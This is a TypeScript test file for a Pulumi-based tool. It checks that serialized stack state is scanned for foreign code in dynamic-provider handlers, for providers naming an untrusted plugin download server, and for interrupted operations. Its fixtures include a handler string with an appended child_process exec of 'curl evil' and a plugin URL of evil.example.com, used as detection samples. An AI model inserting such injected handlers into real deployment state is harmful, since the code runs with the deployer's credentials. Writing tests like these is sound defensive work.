import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { type Exported, foreignCode, foreignIn, interruptedIn } from "../../../cli/pipeline/state";
import { root } from "../../harness/engine";
import { encryptedSecret } from "../../harness/secret-values";

const urn = "urn:pulumi:dev::p::pulumi-nodejs:dynamic/dataplatform:WhitelistedIp::office";
const type = "pulumi-nodejs:dynamic/dataplatform:WhitelistedIp";
const own = 'exports.handler=()=>require("pulumi-dataplatform/dynamic").WhitelistedIp';
const evil = `${own};require("child_process").exec("curl evil")`;

test("the text of this package, in both places; in plugin mode none, or what is left of dynamic mode", () => {
  const plugin = "dataplatform:index:WhitelistedIp";
  const resources = [
    { urn, type, inputs: { __provider: own }, outputs: { __provider: own } },
    { urn: `urn:pulumi:dev::p::${plugin}::a`, type: plugin, inputs: {} },
    // As a change of the mode leaves it.
    { urn: `urn:pulumi:dev::p::${plugin}::b`, type: plugin, inputs: {}, outputs: { __provider: own } },
  ];
  expect(foreignCode({ deployment: { resources } })).toEqual([]);
});

test.each(["0.1.0-dynamic.json", "0.1.0-plugin.json"])("a state of %s is ours", (name) => {
  const { state } = JSON.parse(readFileSync(join(root, "test/engine/upgrade", name), "utf8")) as { state: Exported };
  expect(state.deployment!.resources!.length).toBeGreaterThan(5);
  expect(foreignCode(state)).toEqual([]);
});

describe("what would be executed and is not ours", () => {
  const one = (more: object) => ({ urn, type, ...more });
  test.each([
    ["in the inputs", one({ inputs: { __provider: evil } })],
    ["in the outputs", one({ inputs: { __provider: own }, outputs: { __provider: evil } })],
    ["of another of our types", one({ inputs: { __provider: own.replace("WhitelistedIp", "Account") } })],
    ["another module", one({ inputs: { __provider: own.replace("pulumi-dataplatform", "pulumi-dataplatfrom") } })],
    ["encrypted", one({ outputs: { __provider: encryptedSecret("v1:x") } })],
    ["of a type that is not ours", { urn, type: "pulumi-nodejs:dynamic:Resource", inputs: { __provider: own } }],
    ["of another type, left in plugin mode", { urn, type: "dataplatform:index:Role", outputs: { __provider: own } }],
    ["hidden in a type of the plugin", { urn, type: "dataplatform:index:WhitelistedIp", inputs: { __provider: evil } }],
  ])("%s", (_what, resource) => {
    const found = foreignCode({ deployment: { resources: [resource] } });
    expect(found).toEqual([expect.stringMatching(/^foreign code: __provider of .*, and take it out, .*stack export/)]);
    // Also where a run was interrupted.
    expect(foreignCode({ deployment: { pending_operations: [{ resource }] } })).toEqual(found);
  });

  test("a provider that names a server for its plugin", () => {
    const provider = "urn:pulumi:dev::p::pulumi:providers:dataplatform::default";
    const inputs = { version: "0.1.0", pluginDownloadURL: "https://evil.example.com" };
    const resources = [{ urn: provider, type: "pulumi:providers:dataplatform", inputs }];
    expect(foreignCode({ deployment: { resources } })).toEqual([
      expect.stringMatching(/^foreign code: pulumi:providers:dataplatform default names a server .*; find out who/),
    ]);
    expect(foreignIn(provider, undefined, { __internal: { pluginDownloadURL: "x" } })).toHaveLength(1);
    expect(foreignIn(provider, undefined, { version: "1" })).toEqual([]);
    expect(foreignIn(provider, undefined, { __provider: "exports.handler=()=>evil()" })).toHaveLength(1);
  });
});

test("what a killed run was creating stops every plan, and says who finds out about it", () => {
  const pending = (type: string, resource: string) => ({
    type,
    resource: { urn: `urn:pulumi:dev::p::${resource}::orders`, type: resource },
  });
  const told = (...pending_operations: object[]) => interruptedIn("dev", { deployment: { pending_operations } });
  expect(told(pending("creating", "dataplatform:index:DataStore"))).toEqual([
    expect.stringMatching(/^interrupted: DataStore orders was being created .* "dataplatform doctor --stack dev"/),
  ]);
  // Sent again, it does the same; and what others were creating is theirs.
  expect(told(pending("updating", "dataplatform:index:Folder"), pending("creating", "aws:s3/bucket:Bucket"))).toEqual(
    [],
  );
});
